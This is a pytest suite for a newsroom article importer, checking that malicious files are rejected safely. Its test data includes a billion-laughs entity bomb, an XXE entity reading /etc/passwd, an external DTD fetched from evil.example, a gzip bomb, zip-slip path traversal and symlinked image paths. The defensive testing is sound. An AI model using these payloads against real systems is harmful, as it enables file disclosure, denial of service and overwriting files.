"""Files made to hurt are refused or read in part: bombs, depths, and paths that lead elsewhere."""

from __future__ import annotations

import gzip
import zipfile

import pytest

from newsroom.imports.importer import Importer
from newsroom.models import Article, Image
from tests.newsroom.drawings import encoded
from tests.newsroom.imports.command import lines, run, story

pytestmark = pytest.mark.django_db


ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

BOMBS = {
    "laughs": f'<!DOCTYPE html [<!ENTITY l0 "lol">{ENTITIES}]>',
    "outside": '<!DOCTYPE html [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "dtd": '<!DOCTYPE html SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "x"> %p;]>',
}

PAGE = "<html><head><title>Harbour board meets</title></head><body><article>"

TEXT = "<p>The harbour board met on Monday and took a long vote on the dues of the ferry. &l9;</p>"


@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.parametrize("name", ["a.html", "a.xhtml", "a.sgm"])
def test_entities_are_not_expanded_and_nothing_is_fetched(tmp_path, bomb, name):
    declared = '<?xml version="1.0"?>' if name == "a.xhtml" else ""
    page = f"{declared}{BOMBS[bomb]}{PAGE}{TEXT * 8}</article></body></html>"
    (tmp_path / name).write_text(page)
    code, _said = run(tmp_path / name)
    assert code in (0, 1, 2)
    for article in Article.objects.all():
        assert len(article.body) < 5000
        assert "root:" not in article.body
        assert "lollol" not in article.body


@pytest.mark.parametrize("tag", ["div", "b", "table"])
def test_deep_nesting_is_no_crash_and_refused_in_words(tmp_path, tag):
    page = f"{PAGE}{f'<{tag}>' * 10_000}{TEXT}{f'</{tag}>' * 10_000}{TEXT * 8}</article>"
    (tmp_path / "a.html").write_text(page)
    assert run(tmp_path / "a.html")[0] in (0, 1, 2)
    (tmp_path / "a.jsonl").write_text(lines(story(1, body_html=page), story(2)))
    code, said = run(tmp_path / "a.jsonl")
    assert code == 1
    assert "imported 1, updated 0, unchanged 0, rejected 1" in said
    assert "The text has more than 256 elements within each other." in said


@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_deep_json_is_one_rejected_line(tmp_path, opening):
    deep = f'{{"headline": {opening * 100_000}\n'
    (tmp_path / "a.jsonl").write_text(lines(story(1)) + deep + lines(story(2)))
    code, said = run(tmp_path / "a.jsonl")
    assert code == 1
    assert "imported 2, updated 0, unchanged 0, rejected 1" in said


def test_a_gzip_bomb_is_stopped(tmp_path):
    packed = gzip.compress(b" " * (40 << 20))
    packed = gzip.compress(packed) if len(packed) > 60_000 else packed
    (tmp_path / "a.jsonl.gz").write_bytes(packed)
    assert run(tmp_path / "a.jsonl.gz")[0] == 2
    assert not Article.objects.exists()


def test_a_zip_file_writes_nothing_to_where_its_paths_lead(tmp_path):
    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.jsonl", lines(story(1)))
        archive.writestr("bomb.txt", b"0" * 1_000_000)
    code, said = run(tmp_path / "a.zip")
    assert code == 2
    assert "a.zip/../../evil.jsonl: its path leads out of the archive" in said
    assert not (tmp_path.parent / "evil.jsonl").exists()
    assert not Article.objects.exists()


@pytest.mark.parametrize("path", ["../secret.png", "/etc/hostname", "link.png", "a/../../x.png"])
def test_a_picture_comes_from_beside_its_file_and_nowhere_else(tmp_path, path):
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("secret.png", "x.png"):
        (tmp_path / name).write_bytes(encoded("PNG"))
    (folder / "link.png").symlink_to(tmp_path / "secret.png")
    (folder / "in.jsonl").write_text(lines(story(1, image={"path": path})))
    assert run(folder / "in.jsonl")[0] == 0
    assert not any(image.file for image in Image.objects.all())


def test_the_same_file_twice_makes_no_duplicates(tmp_path):
    (tmp_path / "in.jsonl").write_text(lines(*(story(number) for number in range(30))))
    assert "imported 30" in run(tmp_path / "in.jsonl")[1]
    assert "imported 0, updated 0, unchanged 30" in run(tmp_path / "in.jsonl")[1]
    assert Article.objects.count() == 30


@pytest.mark.django_db(transaction=True)
def test_an_import_that_is_stopped_goes_on_where_it_was(tmp_path, monkeypatch):
    (tmp_path / "in.jsonl").write_text(lines(*(story(number) for number in range(1500))))
    write, calls = Importer._write, []

    def stopped(self, *args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return write(self, *args, **kwargs)

    monkeypatch.setattr(Importer, "_write", stopped)
    with pytest.raises(KeyboardInterrupt):
        run(tmp_path / "in.jsonl")
    before = Article.objects.count()
    monkeypatch.undo()
    _code, said = run(tmp_path / "in.jsonl")
    assert f"imported {1500 - before}, updated 0, unchanged {before}, rejected 0" in said
    assert Article.objects.count() == 1500
